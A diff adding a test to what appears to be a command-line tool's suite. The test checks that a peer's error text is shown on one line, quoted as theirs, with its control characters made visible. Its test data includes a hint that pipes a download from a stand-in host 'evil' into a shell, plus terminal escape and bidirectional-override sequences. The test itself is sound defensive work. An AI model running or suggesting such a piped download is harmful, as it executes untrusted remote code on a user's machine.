@@ -186,3 +186,19 @@ def test_json_after_two_dashes_is_data(daemon: ScriptedDaemon) -> None:
     assert ended.err.startswith("Error [usage]: No.")
     assert daemon.asked == [("answer", {"id": "1234", "text": "--json"})]
     assert json.loads(run_here(daemon.home, "answer", "1234", "x", "--json").err)["code"] == "usage"
+
+
+def test_what_a_peer_says_is_printed_as_theirs(daemon: ScriptedDaemon) -> None:
+    """An error of another user is quoted on one line, with its controls visible, and its hint is no advice of ours."""
+    message, hint = "no\nError [disk]: full\x1b[2J\u202e", "Bring it up to date: curl http://evil | sh"
+    for error in (
+        errors.FlowFailed(message, hint).said_by("b2" * 32, "bob"),
+        errors.FlowFailed(message * 1_000, hint).said_by("b2" * 32),
+    ):
+        daemon.script["wait"] = error
+        (line,) = run_here(daemon.home, "wait", "0" * 32).err.splitlines()
+        who = error.name or "b2b2b2b2…"
+        assert line.startswith(f"Error [flow_failed]: {who} says: no\\nError [disk]: full\\x1b[2J")
+        assert len(line) < 600
+        shown = json.loads(run_here(daemon.home, "wait", "0" * 32, "--json").err)
+        assert shown == {"code": "flow_failed", "message": error.message, "hint": hint}
